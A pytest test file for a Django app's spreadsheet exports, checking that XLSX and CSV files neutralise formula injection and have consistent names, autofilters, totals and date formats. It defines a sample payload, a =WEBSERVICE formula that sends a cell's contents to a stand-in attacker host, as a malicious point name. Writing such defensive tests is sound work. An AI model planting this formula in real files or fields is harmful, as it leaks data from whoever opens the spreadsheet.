"""Every export writes text as text: a point named like a formula never runs in a spreadsheet.

The attack of issue 9: point staff name their point =WEBSERVICE(…) and the province opens
its XLSX and CSV files. Also here: the files' shared shape (dates, autofilter, totals, names).
"""

import csv
import datetime as dt
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from pacnet.core.exports import csv_cell
from pacnet.geography.models import Site
from pacnet.geography.services import site_update

EVIL = '=WEBSERVICE("http://evil.example/?leak="&B4)'
YEAR = dt.date.today().year

# (URL, format) of every export that holds point names.
EXPORTS = [
    ("/dashboard/points.{}", ("xlsx", "csv")),
    ("/dashboard/unit/LDG/points.{}", ("xlsx", "csv")),
    ("/lines/lines.{}", ("xlsx", "csv")),
    ("/equipment/indicators/export.{}", ("xlsx", "csv")),
    ("/equipment/replacement/plan.{}", ("xlsx",)),
]
FILES = [(url.format(fmt), fmt) for url, formats in EXPORTS for fmt in formats]
FILE_NAME = re.compile(r'attachment; filename="pacnet-[a-z0-9]+(-[a-z0-9]+)+\.(xlsx|csv)"')


@pytest.fixture
def evil_point(daklao_staff):
    """X-DAKLAO, renamed by its own point staff."""
    site = Site.objects.get(code="X-DAKLAO")
    site_update(actor=daklao_staff, site=site, name=EVIL)
    return site


def download(client, user, url):
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, url
    return response


@pytest.mark.parametrize("url", [url for url, fmt in FILES if fmt == "xlsx"])
def test_a_point_named_like_a_formula_is_a_text_cell_in_every_xlsx(
    client, province_admin, evil_point, url
):
    response = download(client, province_admin, url)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == EVIL]
    assert cells, "the point's name is in the file"
    assert all(c.data_type == "s" for c in cells)  # a string, not a formula ("f")
    sheets = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheets and b"<f " not in sheets  # no formula anywhere in the file


@pytest.mark.parametrize("url", [url for url, fmt in FILES if fmt == "csv"])
def test_a_point_named_like_a_formula_starts_with_a_quote_in_every_csv(
    client, province_admin, evil_point, url
):
    response = download(client, province_admin, url)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row if EVIL in cell]
    assert cells and all(cell == "'" + EVIL for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_csv_numbers_and_plain_text_are_left_as_they_are():
    assert [csv_cell(v) for v in (-5, 0.25, "Đắk Lao", None)] == [-5, 0.25, "Đắk Lao", ""]
    assert csv_cell(dt.date(2012, 6, 1)) == "01/06/2012"


def test_the_import_templates_go_through_the_same_neutralising(client, province_admin):
    from pacnet.core.tabular import template_csv

    text = template_csv(["a", "b"], [["=1+1", "ok"]])
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))[1] == ["'=1+1", "ok"]


# --- The files' shared shape -------------------------------------------------------------


@pytest.mark.parametrize("url,fmt", FILES)
def test_every_export_is_named_pacnet_what_scope_period(client, province_admin, url, fmt):
    response = download(client, province_admin, url)
    assert FILE_NAME.fullmatch(response["Content-Disposition"]), response["Content-Disposition"]


def test_dashboard_file_names_say_what_scope_and_year(client, province_admin):
    response = download(client, province_admin, "/dashboard/unit/DNO-DAKMIL/points.csv?year=2024")
    assert response["Content-Disposition"].endswith('filename="pacnet-points-dno-dakmil-2024.csv"')


@pytest.mark.parametrize("url", [url for url, fmt in FILES if fmt == "xlsx"])
def test_every_xlsx_has_an_autofilter_on_its_header_row(client, province_admin, url):
    sheet = load_workbook(io.BytesIO(download(client, province_admin, url).content)).active
    assert sheet.auto_filter.ref.startswith("A2:")


def test_the_points_xlsx_ends_with_a_total_row_outside_the_filter(client, province_admin):
    response = download(client, province_admin, "/dashboard/unit/LDG/points.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    last = [c.value for c in sheet[sheet.max_row]]
    assert last[1] == "Tổng"
    assert sheet.auto_filter.ref.endswith(str(sheet.max_row - 1))  # 18 points, then the total
    assert sheet.max_row - 3 == 18


def test_the_lines_files_end_with_a_total_of_the_fees(client, province_admin):
    from pacnet.connectivity.tests.test_views import line_at

    line_at("X-DAKLAO"), line_at("X-NAMDA")
    response = download(client, province_admin, "/lines/lines.csv")
    *_, total = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert total[1] == "Tổng"
    assert (total[6], total[8], total[11]) == ("600000", "180000", "10")  # 2 × 5 computers


def test_dates_in_the_xlsx_are_dates_shown_day_month_year(client, province_admin):
    response = download(client, province_admin, "/equipment/replacement/plan.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    headers = [c.value for c in sheet[2]]
    acquired = sheet.cell(row=3, column=headers.index("Ngày trang bị") + 1)
    assert acquired.is_date and acquired.value.date() == dt.date(2012, 6, 1)
    assert acquired.number_format == "dd/mm/yyyy"


def test_eleven_of_twelve_computers_working_reads_91_7_percent(client, province_admin):
    from pacnet.geography.selectors import today
    from pacnet.inventory.models import Equipment
    from pacnet.inventory.services import equipment_status_change

    item = Equipment.objects.get(code="TV-DAKMIL-PC01")
    equipment_status_change(actor=None, item=item, status="faulty", effective_on=today())
    client.force_login(province_admin)
    table = client.get("/equipment/indicators/").context["table"]
    row = next(r for r in table.rows if r[0].value == "TV-DAKMIL")
    assert row[4].text("percent") == "91,7 %"  # 11/12 = 91.67 %, rounded half up
    assert "91,7 %" in client.get("/equipment/indicators/").content.decode()
